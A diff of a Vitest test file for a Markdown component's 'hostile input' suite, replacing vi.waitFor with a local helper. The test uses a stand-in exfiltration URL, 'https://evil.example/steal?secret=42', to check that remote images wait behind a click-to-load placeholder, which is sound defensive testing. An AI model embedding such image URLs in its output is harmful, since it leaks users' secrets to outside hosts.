@@ -1,6 +1,6 @@
-import { describe, expect, it, vi } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { Markdown } from '../../src/components/index.js';
-import { useReactRoot } from '../support/react-root.js';
+import { useReactRoot, waitFor } from '../support/react-root.js';
 
 const react = useReactRoot();
 
@@ -59,7 +59,7 @@ describe('Markdown with hostile input', () => {
     const placeholders = [...root.querySelectorAll<HTMLButtonElement>('.hayloft-image-placeholder')];
     expect(placeholders.map((button) => button.textContent)).toEqual(['Load image “exfiltrate” from evil.example']);
     placeholders[0]!.click();
-    await vi.waitFor(() => expect(root.querySelector('img')?.getAttribute('src')).toBe('https://evil.example/steal?secret=42'));
+    await waitFor(() => expect(root.querySelector('img')?.getAttribute('src')).toBe('https://evil.example/steal?secret=42'));
     expect(root.querySelector('img')?.getAttribute('referrerpolicy')).toBe('no-referrer');
   });
 
